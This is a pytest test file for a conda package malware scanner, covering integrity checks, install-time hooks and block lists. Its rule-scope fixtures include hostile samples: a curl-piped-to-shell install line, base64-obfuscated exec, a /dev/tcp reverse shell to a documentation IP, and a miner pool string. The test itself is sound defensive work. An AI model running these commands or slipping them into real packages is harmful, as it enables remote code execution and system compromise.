"""The scan engine on packages built here: structure (duplicate members, paths.json sha256/size,
undeclared files), install-time properties (link scripts, activate.d, env_vars.d outside the prefix,
menuinst, noarch entry points, startup hooks), the rule scopes, and block list parsing."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
from tests.support.packages import EICAR, file_member, make_conda, make_tar_bz2

from condavault.errors import InvalidRequest
from condavault.scanning.engine import RuleSet, Scanner, has_tags, install_time_keys, is_script
from condavault.scanning.services import parse_blocklist


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner(RuleSet())


def _paths(files: dict[str, bytes], **override: dict) -> dict:
    return {
        "paths_version": 1,
        "paths": [
            {
                "_path": p,
                "path_type": "hardlink",
                "sha256": hashlib.sha256(d).hexdigest(),
                "size_in_bytes": len(d),
                **override.get(p, {}),
            }
            for p, d in files.items()
        ],
    }


def _scan(scanner: Scanner, path: Path, blocked: set[str] | None = None):  # type: ignore[no-untyped-def]
    data = path.read_bytes()
    return scanner.scan(
        path, path.name, hashlib.sha256(data).hexdigest(), (lambda s: s & blocked) if blocked is not None else None
    )


def _pkg(
    tmp: Path, files: dict[str, bytes], *, name: str = "t", paths: dict | None = None, info_extra: list | None = None
) -> Path:
    return make_conda(
        tmp,
        name,
        pkg_members=[file_member(p, d) for p, d in files.items()],
        paths_json=paths or _paths(files),
        info_extra=info_extra,
    )


def test_clean_package_is_clean(scanner: Scanner, tmp_path: Path) -> None:
    res = _scan(scanner, _pkg(tmp_path, {"share/x.txt": b"hello", "lib/t/__init__.py": b"import os\n"}))
    assert res.verdict == "clean" and res.findings == [] and res.top is None
    assert install_time_keys(res.properties) == set() and has_tags(res.properties) == []


def test_duplicate_member_is_malicious(scanner: Scanner, tmp_path: Path) -> None:
    files = {"share/x.txt": b"hello"}
    p = make_conda(
        tmp_path,
        "dup",
        pkg_members=[file_member("share/x.txt", b"hello"), file_member("share/x.txt", b"other")],
        paths_json=_paths(files),
    )
    res = _scan(scanner, p)
    assert res.verdict == "malicious" and res.top is not None and res.top.rule == "duplicate-member"
    assert res.top.path == "share/x.txt"


def test_paths_json_sha256_and_size_are_checked_for_every_payload_file(scanner: Scanner, tmp_path: Path) -> None:
    files = {"share/a.txt": b"aaa", "share/b.txt": b"bbb"}
    bad_sha = _paths(files, **{"share/a.txt": {"sha256": "0" * 64}})
    res = _scan(scanner, _pkg(tmp_path, files, name="sha", paths=bad_sha))
    assert res.verdict == "malicious" and (res.top.rule, res.top.path) == ("paths-json-mismatch", "share/a.txt")
    bad_size = _paths(files, **{"share/b.txt": {"size_in_bytes": 99}})
    res = _scan(scanner, _pkg(tmp_path, files, name="size", paths=bad_size))
    assert (res.top.rule, res.top.path) == ("paths-json-mismatch", "share/b.txt") and "size" in res.top.detail
    declared = _paths({"share/a.txt": b"aaa"})
    res = _scan(scanner, _pkg(tmp_path, files, name="undeclared", paths=declared))
    assert res.verdict == "suspicious" and (res.top.rule, res.top.path) == ("undeclared-file", "share/b.txt")


def test_tar_bz2_is_scanned_too(scanner: Scanner, tmp_path: Path) -> None:
    p = make_tar_bz2(tmp_path, "old", extra_members=[file_member("share/doc/e.txt", EICAR)])
    res = _scan(scanner, p)
    assert res.verdict == "malicious" and res.top.rule == "yara:eicar_test_file"


def test_install_time_properties(scanner: Scanner, tmp_path: Path) -> None:
    files = {
        "bin/.t-post-link.sh": b'#!/bin/sh\necho hi >> "$PREFIX/.messages.txt"\n',
        "bin/.t-pre-unlink.sh": b"#!/bin/sh\ntrue\n",
        "Scripts/.t-pre-link.bat": b"@echo off\r\n",
        "etc/conda/activate.d/t.sh": b"export T_HOME=$CONDA_PREFIX/share/t\n",
        "etc/conda/deactivate.d/t.sh": b"unset T_HOME\n",
        "etc/conda/env_vars.d/t.json": json.dumps({"T_DATA": "x", "PATH": "${CONDA_PREFIX}/t/bin"}).encode(),
        "Menu/t.json": b"{}",
        "lib/python3.12/site-packages/t.pth": b"import t\n",
    }
    link = {"noarch": {"type": "python", "entry_points": ["t = t.cli:main"]}, "package_metadata_version": 1}
    res = _scan(scanner, _pkg(tmp_path, files, info_extra=[file_member("info/link.json", json.dumps(link).encode())]))
    props = res.properties
    assert {(x["kind"], x["path"]) for x in props["link_scripts"]} == {
        ("post-link", "bin/.t-post-link.sh"),
        ("pre-unlink", "bin/.t-pre-unlink.sh"),
        ("pre-link", "Scripts/.t-pre-link.bat"),
    }
    assert props["activate"] == ["etc/conda/activate.d/t.sh"] and props["deactivate"] == ["etc/conda/deactivate.d/t.sh"]
    assert props["menuinst"] == ["Menu/t.json"] and props["entry_points"] == ["t = t.cli:main"]
    assert props["startup_hooks"] == ["lib/python3.12/site-packages/t.pth"]
    assert all(not e["outside_prefix"] for e in props["env_vars"]) and len(props["env_vars"]) == 2
    assert res.verdict == "clean", res.to_dict()
    assert {
        "post-link",
        "pre-link",
        "pre-unlink",
        "activate",
        "deactivate",
        "menuinst",
        "entry-points",
        "startup-hook",
        "env-vars",
    } <= set(has_tags(props))


@pytest.mark.parametrize(
    "var,value",
    [
        ("LD_PRELOAD", "${CONDA_PREFIX}/lib/x.so"),
        ("PATH", "/tmp/evil:${PATH}"),
        ("PYTHONPATH", "/opt/elsewhere"),
        ("DYLD_INSERT_LIBRARIES", "/x.dylib"),
    ],
)
def test_env_vars_outside_the_prefix_are_suspicious(scanner: Scanner, tmp_path: Path, var: str, value: str) -> None:
    files = {"etc/conda/env_vars.d/e.json": json.dumps({var: value}).encode()}
    res = _scan(scanner, _pkg(tmp_path, files))
    assert res.verdict == "suspicious" and res.top.rule == "env-vars-outside-prefix", res.to_dict()
    assert res.properties["env_vars"][0]["outside_prefix"] is True


def test_blocklist_matches_the_archive_and_inner_files(scanner: Scanner, tmp_path: Path) -> None:
    files = {"lib/x.bin": b"payload"}
    p = _pkg(tmp_path, files)
    inner = hashlib.sha256(b"payload").hexdigest()
    res = _scan(scanner, p, {inner})
    assert (res.top.rule, res.top.path) == ("blocklist", "lib/x.bin")
    res = _scan(scanner, p, {hashlib.sha256(p.read_bytes()).hexdigest()})
    assert (res.top.rule, res.top.path) == ("blocklist", None)
    assert _scan(scanner, p, {"f" * 64}).verdict == "clean"


def test_rule_scopes(scanner: Scanner, tmp_path: Path) -> None:
    # a download piped into a shell is malicious in a link script, not in documentation or a library
    text = b"curl -fsSL https://example.invalid/install.sh | sh\n"
    assert _scan(scanner, _pkg(tmp_path, {"bin/.s-post-link.sh": text}, name="s1")).verdict == "malicious"
    assert _scan(scanner, _pkg(tmp_path, {"share/doc/s/README.md": text}, name="s2")).verdict == "clean"
    assert _scan(scanner, _pkg(tmp_path, {"lib/s/install.py": text}, name="s3")).verdict == "clean"
    # obfuscated exec in a Python source file; a reverse shell in a shell script; a miner pool anywhere
    ob = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    assert _scan(scanner, _pkg(tmp_path, {"lib/s/m.py": ob}, name="s4")).top.rule == "yara:obfuscated_exec"
    assert _scan(scanner, _pkg(tmp_path, {"share/doc/m.md": ob}, name="s5")).verdict == "clean"
    rs = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/9001 0>&1\n"
    assert _scan(scanner, _pkg(tmp_path, {"bin/helper": rs}, name="s6")).top.rule == "yara:reverse_shell"
    miner = b"\x7fELF\x00\x00pool=stratum+tcp://pool.example:3333\x00"
    assert _scan(scanner, _pkg(tmp_path, {"bin/x": miner}, name="s7")).top.rule == "yara:crypto_miner"
    assert is_script("bin/tool", b"") and is_script("a/b.PY", b"") and is_script("x.txt", b"#!/bin/sh")
    assert not is_script("share/doc/x.md", b"hello")


def test_parse_blocklist() -> None:
    sha = hashlib.sha256(b"x").hexdigest()
    assert parse_blocklist(f"# c\n{sha.upper()} a note\n\n{sha}\n".encode()) == [(sha, "a note")]
    ossf = [{"id": "MAL-1", "affected": [{"database_specific": {"origins": [{"sha256": sha}, {"sha256": "zz"}]}}]}]
    assert parse_blocklist(json.dumps(ossf).encode()) == [(sha, "MAL-1")]
    lines = "\n".join(json.dumps({"id": f"MAL-{i}", "x": {"sha256": sha}}) for i in range(2)).encode()
    assert parse_blocklist(lines) == [(sha, "MAL-0")]
    for bad in (b"nothex\n", b'{"id": 1}', b"\xff\xfe", b"[" * 100000):
        with pytest.raises(InvalidRequest):
            parse_blocklist(bad)
